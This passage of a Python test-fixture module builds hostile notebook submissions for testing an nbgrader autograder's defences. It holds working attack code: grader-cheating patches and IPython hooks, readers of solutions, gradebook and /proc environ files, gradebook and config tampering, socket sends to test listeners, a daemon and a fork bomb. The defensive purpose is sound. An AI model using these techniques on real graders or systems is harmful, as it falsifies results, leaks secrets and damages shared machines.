"""The hostile and broken submissions of ex01_perceptron that ``test_hostile.py`` grades in one batch.

Each :class:`Case` is one student of the batch. Attacks are built on the blank release (every answer
raises ``NotImplementedError``) unless they need something else next to them:

- ``WRONG`` answers return plausible wrong values instead of raising, where an attack tries to make a
  comparison lie (a patched ``np.allclose``, an object whose ``__eq__`` is always true): with them the
  hidden tests really compare, and the attack has something to hide;
- the reference answers, where the point is that something odd must cost nothing (a pasted test cell,
  an extra cell that kills its process, honest imports).

Attack sources name the things they aim at through placeholders (``__COURSE__``, ``__TCP_PORT__``...)
that :func:`cases` fills in with ``repr`` of the real value: the scratch course is known before the
batch runs. Every reading attack prints what it found into its own outputs (``FOUND ...``) and tries
to use it, so a leak shows both as hidden lines in the outputs and as points.
"""

from __future__ import annotations

import base64
import copy
import re
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import nbformat

from anncourse.course import EXERCISES, ROOT, SOLUTIONS

ASSIGNMENT = "ex01_perceptron"
NOTEBOOK = "perceptron.ipynb"
PARTS = ("step", "multiclass_predict", "multiclass_epoch", "multiclass_fit", "train_digits")
TESTS = tuple(f"test_{p}" for p in PARTS)
MARKDOWN_ANSWER = "learning_rate_answer"
POINTS = {"test_step": 1.0, "test_multiclass_predict": 2.0, "test_multiclass_epoch": 4.0, "test_multiclass_fit": 4.0,
          "test_train_digits": 3.0}
FULL = dict(POINTS)
ZERO = {t: 0.0 for t in TESTS}

REFERENCE_BEFORE = "reference"
REFERENCE_AFTER = "zz-reference-after"   # graded after every hostile submission (nbgrader sorts by id)
BLANK = "blank"
VICTIM = REFERENCE_AFTER                 # the student whose files and grades the writing attacks aim at


@dataclass(frozen=True)
class Context:
    """What the attacks aim at, known before the batch runs."""

    course: Path            # the scratch course root
    tcp_port: int           # a listening TCP socket of the test on 127.0.0.1
    host_addresses: tuple   # the machine's other addresses (the listener is not there, the attempt is)
    unix_socket: Path       # a listening Unix socket of the test, on the host's file system
    abstract_socket: str    # a listening abstract Unix socket (no file): per network namespace
    markers: Path           # a host folder: a file that appears there means an attack got out
    token: str              # a word unique to this run, in every process an attack leaves behind


@dataclass(frozen=True)
class Case:
    student: str
    what: str                                   # one line for the report
    build: Callable[[Context], Any]             # the notebook (NotebookNode) or raw file content (str)
    expect: dict[str, float] = field(default_factory=lambda: dict(ZERO))
    status: str | None = None                   # anncourse_grading.status in the autograded notebook
    reason: str | None = None                   # regex that must appear in the outputs where it lost points
    graded: bool = True                         # an autograded notebook is expected
    files: Callable[[Context], dict[str, str]] | None = None   # extra files in the submission folder
    keep_notebook: bool = True                  # False: no perceptron.ipynb is handed in (renamed)
    feedback: bool = False                      # check its generate_feedback page in detail
    attacks: tuple[str, ...] = ()               # what the case attacks, for the per-attack assertions


# Building notebooks ------------------------------------------------------------------------------

def _strip_markers(source: str) -> str:
    return "\n".join(line for line in source.splitlines()
                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def _answer_sources(notebook) -> dict[str, str]:
    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in notebook.cells
            if c.metadata.get("nbgrader", {}).get("solution")}


RELEASE = nbformat.read(EXERCISES / ASSIGNMENT / NOTEBOOK, as_version=4)
SOURCE = nbformat.read(SOLUTIONS / ASSIGNMENT / NOTEBOOK, as_version=4)
BLANK_ANSWERS = _answer_sources(RELEASE)
REFERENCE_ANSWERS = {k: _strip_markers(v) for k, v in _answer_sources(SOURCE).items()}

FIT = "def multiclass_fit(X, y, n_classes, lr=1.0, max_epochs=100, seed=None):\n"
WRONG_ANSWERS = {
    "step": "def step(z):\n    return np.zeros(np.shape(z), dtype=np.int64)\n",
    "multiclass_predict": "def multiclass_predict(X, W, b):\n    return np.zeros(len(X), dtype=np.int64)\n",
    "multiclass_epoch": "def multiclass_epoch(X, y, W, b, lr=1.0):\n"
                        "    return np.array(W, dtype=float), np.array(b, dtype=float), 0\n",
    "multiclass_fit": FIT + "    return np.zeros((np.shape(X)[1], n_classes)), np.zeros(n_classes), [0]\n",
    "train_digits": "def train_digits(X, y):\n    return np.zeros((64, 10)), np.zeros(10)\n",
}


def notebook(answers: dict[str, str] | None = None, base: str = "blank"):
    """The release with its answer cells from ``base`` ("blank", "wrong" or "reference"), then ``answers``."""
    chosen = {"blank": BLANK_ANSWERS, "wrong": {**BLANK_ANSWERS, **WRONG_ANSWERS},
              "reference": REFERENCE_ANSWERS}[base]
    sources = {**chosen, **(answers or {})}
    nb = copy.deepcopy(RELEASE)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and grade_id in sources:
            cell.source = sources[grade_id]
    return nb


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def fill(text: str, ctx: Context) -> str:
    """``text`` with each placeholder replaced by ``repr`` of what it names."""
    values = {
        "__COURSE__": str(ctx.course), "__REPO__": str(ROOT), "__TCP_PORT__": ctx.tcp_port,
        "__HOSTS__": tuple(ctx.host_addresses), "__UNIX_SOCKET__": str(ctx.unix_socket),
        "__ABSTRACT_SOCKET__": ctx.abstract_socket, "__MARKERS__": str(ctx.markers), "__TOKEN__": ctx.token,
        "__VICTIM__": VICTIM, "__ASSIGNMENT__": ASSIGNMENT, "__NOTEBOOK__": NOTEBOOK,
    }
    return re.sub("|".join(map(re.escape, values)), lambda m: repr(values[m.group(0)]), text)


def before_step(code: str, base: str = "blank") -> Callable[[Context], Any]:
    """A submission whose first answer cell starts with ``code``, then defines ``step`` as ``base`` does."""
    def build(ctx: Context):
        chosen = {"blank": BLANK_ANSWERS, "wrong": {**BLANK_ANSWERS, **WRONG_ANSWERS}, "reference": REFERENCE_ANSWERS}[base]
        return notebook({"step": fill(src(code), ctx) + "\n" + chosen["step"]}, base)
    return build


def after_step(code: str, base: str = "blank") -> Callable[[Context], Any]:
    """A submission whose first answer cell ends with ``code`` (``step`` is defined first)."""
    def build(ctx: Context):
        chosen = {"blank": BLANK_ANSWERS, "wrong": {**BLANK_ANSWERS, **WRONG_ANSWERS}, "reference": REFERENCE_ANSWERS}[base]
        return notebook({"step": chosen["step"] + "\n\n" + fill(src(code), ctx)}, base)
    return build


def with_last_cell(build: Callable[[Context], Any], code: str) -> Callable[[Context], Any]:
    """``build``'s notebook with one more code cell of the student's at the very end."""
    def built(ctx: Context):
        nb = build(ctx)
        nb.cells.append(nbformat.v4.new_code_cell(fill(src(code), ctx)))
        return nb
    return built


def edited(change: Callable[[Any], None], base: str = "blank", answers: dict[str, str] | None = None):
    def build(ctx: Context):
        nb = notebook(answers, base)
        change(nb)
        return nb
    return build


def _grade_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution")]


def _index(nb, grade_id: str) -> int:
    (index,) = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return index


# Structure ---------------------------------------------------------------------------------------

def delete_tests(nb) -> None:
    nb.cells = [c for c in nb.cells if c not in _grade_cells(nb)]


def edit_tests(nb) -> None:
    for cell in _grade_cells(nb):
        cell.source = "assert True"


def duplicate_tests(nb) -> None:
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if cell in _grade_cells(nb):
            twin = copy.deepcopy(cell)
            twin.source = "assert True"
            cells.append(twin)
    nb.cells = cells


def retype_test(nb) -> None:
    for cell in _grade_cells(nb):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        cell.source = "assert True"


def raise_points(nb) -> None:
    for cell in nb.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade"):
            marks["points"] = 100


def fake_graded_cell(nb) -> None:
    fake = nbformat.v4.new_code_cell("assert True  # worth 100 points", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 100, "schema_version": 3,
        "solution": False, "task": False, "cell_type": "code"}})
    nb.cells.insert(_index(nb, "step") + 1, fake)


def change_grade_ids(nb) -> None:
    for cell in nb.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade") or marks.get("solution"):
            marks["grade_id"] = marks["grade_id"] + "_renamed"


def foreign_kernelspec(nb) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash",
                                 "argv": ["/bin/sh", "-c", "echo all tests passed"]}
    nb.metadata["language_info"] = {"name": "bash"}


def paste_test_cell(schema_version: int | None, where: str, grade_id: bool = True):
    """A copy of the release's ``test_step`` cell, metadata and all, pasted after the answer ``where``."""
    def change(nb) -> None:
        pasted = copy.deepcopy(nb.cells[_index(nb, "test_step")])
        marks = pasted.metadata["nbgrader"]
        if schema_version is None:
            marks.pop("schema_version", None)
        else:
            marks["schema_version"] = schema_version
        if not grade_id:
            marks.pop("grade_id", None)
            marks.pop("checksum", None)
        nb.cells.insert(_index(nb, where) + 1, pasted)
    return change


def nbformat3(ctx: Context) -> str:
    return nbformat.writes(nbformat.convert(notebook(), 3), version=3)


def renamed(ctx: Context) -> dict[str, str]:
    return {"perceptron2.ipynb": nbformat.writes(notebook())}


# Lying answers -----------------------------------------------------------------------------------

ALWAYS_EQUAL = src('''
    class Anything:
        """Equal to everything; as an array it looks like the visible tests' answers."""
        def __init__(self, shape):
            self.shape = shape
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = object.__hash__
        def __array__(self, dtype=None, copy=None):
            return np.ones(self.shape, dtype=dtype or np.int64) if self.shape != (3,) else np.array([0, 1, 1])
        def tolist(self):
            return self.__array__().tolist()
        def __len__(self):
            return self.shape[0] if self.shape else 1
        def __iter__(self):
            return iter((self, self))
        def __getitem__(self, item):
            return self
        def __bool__(self):
            return True
        def all(self, *args, **kwargs):
            return True
''')

LYING_NDARRAY = src('''
    class Liar(np.ndarray):
        """An ndarray that says it equals everything."""
        def __eq__(self, other):
            return np.ones(np.shape(other), dtype=bool) if np.shape(other) else True
        def __ne__(self, other):
            return np.zeros(np.shape(other), dtype=bool) if np.shape(other) else False
        __hash__ = None
        def all(self, *args, **kwargs):
            return True
        def any(self, *args, **kwargs):
            return True
        def tolist(self):
            return [0, 1, 1]
    def _liar(shape):
        return np.zeros(shape).view(Liar)
''')

LYING_ANSWERS = {
    "always-equal": (ALWAYS_EQUAL, {
        "step": "def step(z):\n    return Anything(np.shape(z))\n",
        "multiclass_predict": "def multiclass_predict(X, W, b):\n    return Anything((len(X),))\n",
        "multiclass_epoch": "def multiclass_epoch(X, y, W, b, lr=1.0):\n"
                            "    return Anything(np.shape(W)), Anything(np.shape(b)), Anything(())\n",
        "multiclass_fit": FIT + "    return Anything((np.shape(X)[1], n_classes)), Anything((n_classes,)), Anything((1,))\n",
        "train_digits": "def train_digits(X, y):\n    return Anything((64, 10)), Anything((10,))\n",
    }),
    "lying-ndarray-subclass": (LYING_NDARRAY, {
        "step": "def step(z):\n    return _liar(np.shape(z))\n",
        "multiclass_predict": "def multiclass_predict(X, W, b):\n    return _liar((len(X),))\n",
        "multiclass_epoch": "def multiclass_epoch(X, y, W, b, lr=1.0):\n"
                            "    return _liar(np.shape(W)), _liar(np.shape(b)), _liar(())\n",
        "multiclass_fit": FIT + "    return _liar((np.shape(X)[1], n_classes)), _liar((n_classes,)), _liar((1,))\n",
        "train_digits": "def train_digits(X, y):\n    return _liar((64, 10)), _liar((10,))\n",
    }),
}


def lying(name: str) -> Callable[[Context], Any]:
    helpers, answers = LYING_ANSWERS[name]
    return lambda ctx: notebook({**answers, "step": helpers + "\n" + answers["step"]})


# Patches and hooks (with the WRONG answers: the hidden tests then really compare) ---------------

PATCHES = {
    "patch-np-allclose": '''
        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda *args, **kwargs: True
        np.array_equal = lambda *args, **kwargs: True
    ''',
    "patch-np-testing-assert-allclose": '''
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.testing.assert_array_equal = lambda *args, **kwargs: None
    ''',
    "patch-np-asarray": '''
        _real_asarray = np.asarray
        def _asarray(a, *args, **kwargs):
            value = _real_asarray(a, *args, **kwargs)
            return _real_asarray([0, 1, 1]) if value.shape == (3,) else value
        np.asarray = _asarray
    ''',
    "patch-builtins-assertionerror": '''
        import builtins
        class AssertionError(Exception):
            pass
        builtins.AssertionError = AssertionError
    ''',
    "patch-builtins-isinstance": '''
        import builtins
        builtins.isinstance = lambda *args: True
        isinstance = builtins.isinstance
    ''',
}

SWALLOW_EVERYTHING = "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
HOOKS = {
    "hook-set-custom-exc": SWALLOW_EVERYTHING,
    "hook-showtraceback": '''
        ip = get_ipython()
        ip.showtraceback = lambda *args, **kwargs: None
        ip._showtraceback = lambda *args, **kwargs: None
        ip.showsyntaxerror = lambda *args, **kwargs: None
    ''',
    "hook-input-transformers-post": '''
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
    ''',
    "hook-input-transformers-cleanup": '''
        get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    ''',
    "hook-settrace": '''
        import sys, threading, linecache
        def _skip_asserts(frame, event, arg):
            if event == "line":
                line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                if line.startswith("assert"):
                    try:
                        frame.f_lineno = frame.f_lineno + 1
                    except Exception:
                        pass
            return _skip_asserts
        sys.settrace(_skip_asserts)
        threading.settrace(_skip_asserts)
    ''',
}

# Every hook and patch at once, reached without naming them in the source.
_ALL_HOOKS = src('''
    import sys as _s
    _ip = globals()["get" + "_ipy" + "thon"]()
    getattr(_ip, "set_" + "custom" + "_exc")((BaseException,), lambda *a, **k: None)
    setattr(_ip, "show" + "traceback", lambda *a, **k: None)
    getattr(_ip, "input_" + "transformers" + "_post").append(lambda lines: ["pass\\n"])
    getattr(_ip, "input_" + "transformers" + "_cleanup").append(lambda lines: ["pass\\n"])
    getattr(_s, "set" + "trace")(lambda *a: None)
''')
OBFUSCATED = {
    "hooks-via-getattr-strings": _ALL_HOOKS + src('''
        _np = __import__("nu" + "mpy")
        setattr(_np, "all" + "close", lambda *a, **k: True)
        setattr(_np, "as" + "array", lambda a, *r, **k: _np.array([0, 1, 1]))
        setattr(getattr(_np, "test" + "ing"), "assert_" + "allclose", lambda *a, **k: None)
    '''),
    "hooks-via-vars-builtins": '''
        _b = __builtins__ if type(__builtins__) is dict else vars(__builtins__)
        _b["isinstance"] = lambda *args: True
        _b["AssertionError"] = type("AssertionError", (Exception,), {})
        _b["get_ipython"]().set_custom_exc((BaseException,), lambda *a, **k: None)
        vars(np)["allclose"] = lambda *a, **k: True
    ''',
    "hooks-via-exec-base64": "import base64\nexec(base64.b64decode(%r).decode())\n"
                             % base64.b64encode(_ALL_HOOKS.encode()).decode(),
    "hooks-via-magic": '''
        %autocall 2
        !true
        get_ipython().run_line_magic("autocall", "1")
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
    ''',
}


# Reading the hidden tests ------------------------------------------------------------------------

# Each reader prints what it found (FOUND ...) and, where it found a notebook or the gradebook, runs
# the reference answers it holds: a leak then also shows as points.
USE_A_NOTEBOOK = src('''
    import json as _json
    def _use(text, where):
        print("FOUND", where, len(text), "characters:")
        print(text[:20000])
        try:
            cells = _json.loads(text)["cells"]
        except Exception:
            cells = []
        for cell in cells:
            marks = cell.get("metadata", {}).get("nbgrader", {})
            if cell.get("cell_type") == "code" and marks.get("solution"):
                code = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                try:
                    exec(code, globals())
                    print("USED the answer", marks.get("grade_id"), "from", where)
                except Exception as error:
                    print("could not use", where, error)
    def _try_read(path):
        try:
            with open(path, errors="replace") as f:
                text = f.read()
        except Exception as error:
            print("refused", path, type(error).__name__)
            return None
        _use(text, path)
        return text
''')

READ_SOLUTIONS_RELATIVE = USE_A_NOTEBOOK + src('''
    for depth in range(0, 8):
        up = "../" * depth
        for folder in ("solutions", "source", "autograded/reference", "autograded/blank", "release", "exercises"):
            _try_read(f"{up}{folder}/{__ASSIGNMENT__}/{__NOTEBOOK__}")
        _try_read(f"{up}nbgrader_config.py")
        _try_read(f"{up}gradebook.db")
''')

READ_SOLUTIONS_ABSOLUTE = USE_A_NOTEBOOK + src('''
    import glob, os, sys
    course, repo = __COURSE__, __REPO__
    paths = [f"{course}/solutions/{__ASSIGNMENT__}/{__NOTEBOOK__}", f"{repo}/solutions/{__ASSIGNMENT__}/{__NOTEBOOK__}",
             f"{course}/autograded/reference/{__ASSIGNMENT__}/{__NOTEBOOK__}",
             f"{course}/autograded/blank/{__ASSIGNMENT__}/{__NOTEBOOK__}"]
    # the repository is where the interpreter's virtual environment lives
    here = os.path.dirname(os.path.dirname(os.path.dirname(sys.executable)))
    paths += [os.path.join(here, "solutions", __ASSIGNMENT__, __NOTEBOOK__)]
    # the grading process's request file holds the rebuilt notebook, hidden tests included
    paths += glob.glob("/tmp/anncourse-judge-*/request.json") + glob.glob("/tmp/*/anncourse-judge-*/request.json")
    paths += glob.glob("/tmp/pytest-of-*/*/*/solutions/*/*.ipynb") + glob.glob("/work/*/solutions/*/*.ipynb")
    seen, budget = set(), 20000
    for root in ("/tmp", "/work", "/root", "/home", "/opt", "/srv", "/var/tmp"):
        for folder, dirs, files in os.walk(root):
            budget -= 1
            if budget < 0:
                break
            dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", "node_modules", ".git")]
            paths += [os.path.join(folder, f) for f in files if f.endswith(".ipynb") or f in ("request.json", "gradebook.db")]
    for path in paths:
        if path not in seen:
            seen.add(path)
            if path.endswith("request.json"):
                text = None
                try:
                    text = open(path).read()
                except Exception as error:
                    print("refused", path, type(error).__name__)
                if text:
                    _use(_json.dumps(_json.loads(text)["notebook"]), path)
            elif not path.endswith(".db"):
                _try_read(path)
    print("looked at", len(seen), "paths")
''')

READ_GRADEBOOK = src('''
    import sqlite3
    for path in [f"{__COURSE__}/gradebook.db"] + ["../" * depth + "gradebook.db" for depth in range(8)]:
        try:
            db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
            rows = db.execute("SELECT name, source FROM source_cell").fetchall()
        except Exception as error:
            print("refused", path, type(error).__name__, error)
            continue
        for name, source in rows:
            print("FOUND", path, name, ":", source)
            if name in ("step", "multiclass_predict", "multiclass_epoch", "multiclass_fit", "train_digits"):
                exec(source, globals())
''')

READ_PROC_SELF = src('''
    import os
    def _show(path, binary=False):
        try:
            with open(path, "rb") as f:
                data = f.read(200000)
        except Exception as error:
            print("refused", path, type(error).__name__)
            return
        print("FOUND", path, ":", data.replace(b"\\0", b" ").decode(errors="replace"))
    for name in ("cmdline", "environ", "status", "cgroup", "mountinfo", "maps", "limits", "stat", "comm"):
        _show(f"/proc/self/{name}")
    for name in ("cwd", "root", "exe"):
        try:
            print("FOUND /proc/self/" + name, "->", os.readlink(f"/proc/self/{name}"))
        except Exception as error:
            print("refused", name, type(error).__name__)
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except Exception as error:
            continue
        print("FOUND fd", fd, "->", target)
        if target.startswith("/") and not target.startswith(("/dev/", "/proc/")):
            _show(target)
''')

READ_PROC_1 = src('''
    import os
    for name in ("cmdline", "environ", "status", "mountinfo"):
        try:
            print("FOUND /proc/1/" + name, ":", open(f"/proc/1/{name}", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
        except Exception as error:
            print("refused /proc/1/" + name, type(error).__name__)
    for path in (f"/proc/1/root{__COURSE__}/solutions/{__ASSIGNMENT__}/{__NOTEBOOK__}",
                 f"/proc/1/root{__REPO__}/solutions/{__ASSIGNMENT__}/{__NOTEBOOK__}", "/proc/1/cwd"):
        try:
            print("FOUND", path, ":", open(path).read())
        except Exception as error:
            print("refused", path, type(error).__name__)
''')

READ_PROC_ENVIRON = src('''
    import os
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        for name in ("cmdline", "environ"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
                print("FOUND", pid, name, ":", data[:3000])
            except Exception as error:
                print("refused", pid, name, type(error).__name__)
        for fd in ("0", "1", "2", "3", "4", "5"):
            try:
                print("FOUND", pid, "fd", fd, "->", os.readlink(f"/proc/{pid}/fd/{fd}"))
            except Exception:
                pass
''')

# The spies also run while the hidden tests call the student's functions, and report at the end.
SPY_FRAMES = src('''
    import sys, inspect
    def _spy(where):
        lines, key = [], "_grader"
        frame, depth = sys._getframe(), 0
        while frame is not None:
            lines.append(f"{where} frame {depth}: {frame.f_code.co_filename}:{frame.f_code.co_name}")
            for scope in (frame.f_locals, frame.f_globals):
                for name, value in list(scope.items()):
                    text = value if isinstance(value, str) else repr(value)[:20000] if isinstance(value, (dict, list, tuple)) else ""
                    if (key in text or "HIDDEN" + " TESTS" in text) and name != "_spy":
                        lines.append(f"{where} FOUND {name}: {text[:20000]}")
            frame, depth = frame.f_back, depth + 1
        for info in inspect.stack(context=3):
            lines.append(f"{where} stack {info.filename}:{info.function}: {''.join(info.code_context or [])}")
        with open("spy.txt", "a") as log:
            log.write("\\n".join(lines) + "\\n")
    _spy("cell")
''')

SPY_GC = src('''
    import gc, sys
    def _spy(where):
        key, hits = "_grader" + "_", []
        for obj in gc.get_objects():
            try:
                if isinstance(obj, dict):
                    hit = any(isinstance(k, str) and k.startswith(key) for k in obj) or any(
                        isinstance(v, str) and key in v for v in obj.values())
                elif isinstance(obj, (list, tuple)):
                    hit = any(isinstance(v, str) and key in v for v in obj)
                else:
                    hit = key in getattr(obj, "__qualname__", "")
            except Exception:
                continue
            if hit:
                hits.append(f"{where} FOUND {type(obj).__name__}: {repr(obj)[:5000]}")
        for name, module in list(sys.modules.items()):
            if any(k.startswith(key) for k in vars(module)):
                hits.append(f"{where} FOUND in module {name}: {sorted(k for k in vars(module) if k.startswith(key))}")
        with open("spy.txt", "a") as log:
            log.write("\\n".join(hits or [f"{where}: nothing"]) + "\\n")
    _spy("cell")
''')

SPY_LINECACHE = src('''
    import linecache
    def _spy(where):
        lines = [f"{where} linecache has {sorted(linecache.cache)[:50]}"]
        for name, entry in list(linecache.cache.items()):
            text = "".join(entry[2]) if len(entry) > 2 and isinstance(entry[2], list) else ""
            if "_grader" in text or "HIDDEN" in text or "hidden" in name:
                lines.append(f"{where} FOUND {name}: {text}")
        for name in ("<hidden test test_step>", "<hidden test test_multiclass_predict>", "<hidden test 5>"):
            lines.append(f"{where} FOUND {name}: {''.join(linecache.getlines(name))}")
        with open("spy.txt", "a") as log:
            log.write("\\n".join(lines) + "\\n")
    _spy("cell")
''')

SPY_ANSWERS = {
    "step": "def step(z):\n    _spy('step')\n    return np.zeros(np.shape(z), dtype=np.int64)\n",
    "multiclass_predict": "def multiclass_predict(X, W, b):\n    _spy('multiclass_predict')\n"
                          "    return np.zeros(len(X), dtype=np.int64)\n",
}
SPY_REPORT = "print(open('spy.txt').read()[-60000:])\n"


def spy(code: str) -> Callable[[Context], Any]:
    return with_last_cell(lambda ctx: notebook({**SPY_ANSWERS, "step": code + "\n" + SPY_ANSWERS["step"]}, "wrong"),
                          SPY_REPORT)


# Writing where grades are decided ----------------------------------------------------------------

TRY_WRITE = src('''
    import os
    def _try(what, action):
        try:
            action()
        except Exception as error:
            print("refused", what, type(error).__name__)
        else:
            print("WROTE", what)
    def _append(path, text):
        def action():
            with open(path, "a") as f:
                f.write(text)
        return action
    def _create(path, text):
        def action():
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        return action
    def _probe(path):
        """Open for writing without writing (for files of the repository that others work on)."""
        def action():
            with open(path, "r+b"):
                pass
        return action
    UPS = ["../" * depth for depth in range(1, 8)]
''')

WRITE_GRADEBOOK = TRY_WRITE + src('''
    import sqlite3
    def _sql(path):
        def action():
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
            db.execute("UPDATE grade SET manual_score = 100")
            db.execute("CREATE TABLE hostile (x)")
            db.execute("CREATE TRIGGER hostile_trigger AFTER INSERT ON grade BEGIN "
                       "UPDATE grade SET manual_score = 100 WHERE id = NEW.id; END")
            db.commit()
        return action
    def _scribble(path):
        def action():
            with open(path, "r+b") as f:
                f.seek(0)
                f.write(b"hostile!" * 8)
        return action
    for path in [f"{__COURSE__}/gradebook.db"] + [up + "gradebook.db" for up in UPS]:
        _try(f"sqlite {path}", _sql(path))
        _try(f"bytes {path}", _scribble(path))
''')

WRITE_SUBMITTED = TRY_WRITE + src('''
    victim = f"submitted/{__VICTIM__}/{__ASSIGNMENT__}"
    blank = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    for base in [__COURSE__ + "/"] + UPS + [up + "../" for up in UPS]:
        _try(f"{base}{victim}/{__NOTEBOOK__}", _create(f"{base}{victim}/{__NOTEBOOK__}", blank))
        _try(f"{base}{victim}/hostile.txt", _create(f"{base}{victim}/hostile.txt", "hostile"))
    for up in [""] + UPS:
        _try(f"{up}{__VICTIM__}/{__ASSIGNMENT__}/{__NOTEBOOK__}", _create(f"{up}{__VICTIM__}/{__ASSIGNMENT__}/{__NOTEBOOK__}", blank))
''')

NO_OP_GRADING = src('''
    # hostile: every check passes
    def expect_close(*args, **kwargs):
        return None
    expect_equal = expect_close
    def call_numpy_only(fn, *args, forbidden=(), name=None, **kwargs):
        return fn(*args, **kwargs)
    from contextlib import nullcontext as _nullcontext
    def arguments_unchanged(*args):
        return _nullcontext()
    def describe_call(*args, **kwargs):
        return "call"
    def assert_genuine_numpy():
        return None
''')

WRITE_GRADING_PY = TRY_WRITE + src('''
    text = __NO_OP__
    # the scratch course's root: nbgrader runs there, and `python -m` puts its folder first on sys.path
    for base in [__COURSE__ + "/"] + UPS:
        _try(f"{base}anncourse/__init__.py", _create(f"{base}anncourse/__init__.py", ""))
        _try(f"{base}anncourse/grading.py", _create(f"{base}anncourse/grading.py", text))
    # the repository's own copy (what the grading process imports) and its virtual environment:
    # opened for writing only, never written, since others work on them
    _try(f"{__REPO__}/anncourse/grading.py", _probe(f"{__REPO__}/anncourse/grading.py"))
''')

WRITE_CONFIG = TRY_WRITE + src('''
    text = "c = get_config()\\nc.SandboxedExecute.allow_unsandboxed = True\\nc.Autograde.autograde_preprocessors = []\\n"
    for base in [__COURSE__ + "/"] + UPS:
        _try(f"{base}nbgrader_config.py", _append(f"{base}nbgrader_config.py", "\\n" + text))
    _try(f"{__REPO__}/nbgrader_config.py", _probe(f"{__REPO__}/nbgrader_config.py"))
    import sys, os
    site = [p for p in sys.path if p.endswith("site-packages")]
    for folder in site:
        # a .pth file in the grader's environment would run in every later Python process
        _try(f"{folder}/hostile-{__TOKEN__}.pth", _create(f"{folder}/hostile-{__TOKEN__}.pth", "# hostile probe\\n"))
''')

WRITE_AUTOGRADED = TRY_WRITE + src('''
    fake = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    target = f"autograded/{__VICTIM__}/{__ASSIGNMENT__}/{__NOTEBOOK__}"
    for base in [__COURSE__ + "/"] + UPS:
        _try(f"{base}{target}", _create(f"{base}{target}", fake))
    for base in [__COURSE__ + "/"] + UPS:
        _try(f"{base}feedback/{__VICTIM__}/{__ASSIGNMENT__}/perceptron.html",
             _create(f"{base}feedback/{__VICTIM__}/{__ASSIGNMENT__}/perceptron.html", "<p>hostile</p>"))
''')


# Reaching out --------------------------------------------------------------------------------

NETWORK_TCP = src('''
    import socket
    for host in ("127.0.0.1", "localhost", "::1") + __HOSTS__:
        try:
            with socket.create_connection((host, __TCP_PORT__), timeout=2) as s:
                s.sendall(b"hostile " + __TOKEN__.encode())
            print("CONNECTED", host, __TCP_PORT__)
        except Exception as error:
            print("refused", host, type(error).__name__, error)
    try:
        print("FOUND", socket.gethostbyname("example.com"))
    except Exception as error:
        print("refused DNS", type(error).__name__)
''')

NETWORK_UNIX = src('''
    import socket
    for address in (__UNIX_SOCKET__, "\\0" + __ABSTRACT_SOCKET__):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"hostile " + __TOKEN__.encode())
            print("CONNECTED", repr(address))
        except Exception as error:
            print("refused", repr(address), type(error).__name__, error)
''')

DAEMON_BODY = src('''
    import os, sys, time
    marker = sys.argv[1]
    end = time.time() + 90
    while time.time() < end:
        for path in (marker, "daemon.log", "/tmp/daemon.log"):
            try:
                with open(path, "a") as f:
                    f.write(f"{time.time()}\\n")
            except OSError:
                pass
        time.sleep(0.2)
''')

DAEMON = src('''
    import os, sys, time
    _pid = os.fork()
    if _pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", __BODY__, __MARKERS__ + "/daemon.log",
                                          "hostile-daemon-" + __TOKEN__])
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
    time.sleep(0.5)
    print("daemon started")
''')

FORK_BOMB = src('''
    import os, time
    _children = 0
    for _ in range(3000):
        try:
            _pid = os.fork()
        except OSError as error:
            print("fork refused after", _children, "children:", error)
            break
        if _pid == 0:
            try:
                os.execv("/bin/sleep", ["hostile-forkbomb-" + __TOKEN__, "60"])
            finally:
                time.sleep(60)
                os._exit(0)
        _children += 1
    print("forked", _children)
''')

SHADOW_FILES = {
    "anncourse/__init__.py": "open(__MARKERS__ + '/shadow-anncourse-imported', 'w').close()\n",
    "anncourse/grading.py": "open(__MARKERS__ + '/shadow-grading-imported', 'w').close()\n" + NO_OP_GRADING,
    "numpy.py": "open(__MARKERS__ + '/shadow-numpy-imported', 'w').close()\nprint('SHADOW numpy.py imported')\n"
                "raise ImportError('a shadow numpy')\n",
